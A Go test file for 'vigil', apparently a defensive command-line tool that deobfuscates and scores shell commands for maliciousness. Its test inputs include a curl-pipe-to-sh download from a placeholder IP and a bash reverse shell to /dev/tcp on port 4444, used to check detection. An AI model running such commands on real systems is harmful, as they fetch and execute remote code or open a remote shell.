package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// run executes the vigil CLI in-process with args and stdin, returning
// stdout and the error.
func run(t *testing.T, stdin string, args ...string) (string, error) {
	t.Helper()
	root := newRootCmd()
	var out, errOut bytes.Buffer
	root.SetArgs(args)
	root.SetIn(strings.NewReader(stdin))
	root.SetOut(&out)
	root.SetErr(&errOut)
	err := root.Execute()
	return out.String(), err
}

func TestDeobfuscateJSONContract(t *testing.T) {
	out, err := run(t, "", "deobfuscate", "--format", "json", "powershell -enc dwBoAG8AYQBtAGkA")
	if err != nil {
		t.Fatal(err)
	}
	var res struct {
		Deobfuscated *string `json:"deobfuscated"`
		Changed      *bool   `json:"changed"`
		Steps        []struct {
			Transform, Before, After string
		} `json:"steps"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, out)
	}
	if res.Deobfuscated == nil || *res.Deobfuscated != "whoami" || res.Changed == nil || !*res.Changed {
		t.Fatalf("got %s", out)
	}
	if len(res.Steps) == 0 || res.Steps[0].Transform != "ps_encoded_command" {
		t.Fatalf("steps = %+v", res.Steps)
	}
}

func TestDeobfuscateReadsStdin(t *testing.T) {
	out, err := run(t, "c^m^d /c w^h^o^a^m^i\n", "deobfuscate")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "cmd /c whoami") {
		t.Fatalf("got %q", out)
	}
}

func TestCommandErrors(t *testing.T) {
	tests := []struct {
		name string
		args []string
		in   string
		want string
	}{
		{"empty stdin is an error that says what to do", []string{"deobfuscate"}, "", "no command given"},
		{"unknown format names the allowed ones", []string{"parse", "--format", "xml", "ls"}, "", "want one of text, json"},
		{"analyze refuses oversized input with the limit", []string{"analyze"}, strings.Repeat("a", 70<<10), "the limit is 65536"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := run(t, tc.in, tc.args...)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want it to mention %q", err, tc.want)
			}
		})
	}
}

func TestParseJSON(t *testing.T) {
	out, err := run(t, "", "parse", "--format", "json", "curl -s http://203.0.113.9/x.sh | sh")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"executable": "curl"`, `"http://203.0.113.9/x.sh"`, `"203.0.113.9"`, "<URL>"} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %s", want)
		}
	}
}

func TestAnalyzeShowsRules(t *testing.T) {
	out, err := run(t, "", "analyze", "--format", "json", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
	if err != nil {
		t.Fatal(err)
	}
	var an struct {
		Rules []struct{ ID, Action string }
	}
	if err := json.Unmarshal([]byte(out), &an); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range an.Rules {
		found = found || r.Action == "force_malicious"
	}
	if !found {
		t.Fatalf("no force_malicious rule in %+v", an.Rules)
	}
}

func TestRulesTestExitStatus(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.yaml")
	bad := filepath.Join(dir, "bad.yaml")
	rule := `rules:
  - id: acme.allow.backup
    title: backup agent
    level: informational
    action: allow
    match: {field: executable, equals: backup-agent}
    examples:
      positive: ['backup-agent --run']
      negative: [%s]
`
	os.WriteFile(good, []byte(strings.Replace(rule, "%s", "'rsync -a x y'", 1)), 0o600)
	os.WriteFile(bad, []byte(strings.Replace(rule, "%s", "'backup-agent --other'", 1)), 0o600)
	if out, err := run(t, "", "rules", "test", "--no-builtin", good); err != nil {
		t.Fatalf("good file failed: %v\n%s", err, out)
	}
	if _, err := run(t, "", "rules", "test", "--no-builtin", bad); err == nil {
		t.Fatal("a failing example must make rules test fail")
	}
	if out, err := run(t, "", "rules", "test"); err != nil {
		t.Fatalf("builtin rules fail their own examples: %v\n%s", err, out)
	}
}
